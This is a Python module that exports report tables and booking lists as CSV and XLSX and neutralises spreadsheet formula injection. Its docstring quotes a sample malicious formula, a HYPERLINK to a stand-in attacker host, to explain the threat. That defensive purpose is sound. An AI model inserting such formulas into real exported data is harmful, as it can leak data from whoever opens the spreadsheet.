"""The report's tables and the booking list as CSV (RFC 4180) and XLSX, with formulas made inert.

A spreadsheet program runs a cell that begins with = + - @ (or tab, CR, NUL before one) as a
formula: a group's title `=HYPERLINK("http://evil.example")` would become a link that leaks data.
Every text cell that begins with one of them gets a leading apostrophe, in both formats, and XLSX
cells are written as plain strings (data type "s") besides. Numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

import sqlalchemy as sa
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy.orm import Session, aliased

from ..clock import local
from ..models import Booking, Organisation, Resource
from .figures import Period, seconds_between
from .models import Purpose

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
BOM = "\ufeff"


def inert(value):
    """A cell's value with any formula made plain text: text starting like one gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


@dataclass
class Table:
    """A table as it is exported: a name for the file, a title, column headings and rows of values."""

    name: str
    title: str
    headings: list[str]
    rows: Iterable[list]


def csv_chunks(table: Table) -> Iterator[str]:
    """The table as RFC 4180 CSV (CRLF line ends, quotes where needed), UTF-8 with a BOM, in chunks."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow([inert(str(h)) for h in table.headings])
    for n, row in enumerate(table.rows, start=1):
        writer.writerow([inert(v if isinstance(v, (int, float)) else ("" if v is None else str(v))) for v in row])
        if n % 2000 == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def _cell(sheet, value):
    if value is None or isinstance(value, (int, float)):
        return WriteOnlyCell(sheet, value=value)
    text = inert(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # never a formula, whatever the text
    return cell


def xlsx_bytes(tables: list[Table]) -> bytes:
    """The tables as one workbook, a sheet each (streamed by openpyxl's write-only mode)."""
    book = Workbook(write_only=True)
    for table in tables:
        sheet = book.create_sheet(title=ILLEGAL_CHARACTERS_RE.sub("", table.title)[:31] or table.name)
        sheet.append([_cell(sheet, str(h)) for h in table.headings])
        for row in table.rows:
            sheet.append([_cell(sheet, v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def booking_rows(session: Session, period: Period, words) -> Iterator[list]:
    """Every request that starts in the period, one line each (bundled equipment on its own line).

    One query, read in batches: the list of a busy year does not sit in memory at once.
    `words` turns codes into the reader's words (status, kinds, attendance, purpose names).
    """
    dialect = session.get_bind().dialect.name
    purpose = aliased(Purpose)
    query = (
        sa.select(Booking.id, Booking.starts_at, Booking.ends_at, Resource.name, Resource.kind, Organisation.name,
                  Organisation.kind, purpose.key, purpose.name, Booking.title, Booking.attendees, Booking.units,
                  Booking.status, Booking.attendance, Booking.bundle_of_id,
                  seconds_between(Booking.starts_at, Booking.ends_at, dialect))
        .join(Resource, Booking.resource_id == Resource.id)
        .join(Organisation, Booking.organisation_id == Organisation.id)
        .outerjoin(purpose, Booking.purpose_id == purpose.id)
        .where(Booking.starts_at >= period.starts_at, Booking.starts_at < period.ends_at)
        .order_by(Booking.starts_at, Booking.id)
        .execution_options(yield_per=2000)
    )
    for (ident, starts_at, ends_at, resource, resource_kind, group, group_kind, purpose_key, purpose_name, title,
         attendees, units, status, attendance, bundle_of, seconds) in session.execute(query):
        start, end = local(starts_at), local(ends_at)
        yield [ident, start.date().isoformat(), start.strftime("%H:%M"), end.date().isoformat(), end.strftime("%H:%M"),
               resource, str(words.resource_kind(resource_kind)), group, str(words.organisation_kind(group_kind)),
               str(words.purpose(purpose_key, purpose_name)), title, attendees, units, str(words.status(status)),
               str(words.attendance(attendance)) if attendance else "", bundle_of,
               round(int(seconds) / 3600, 2)]
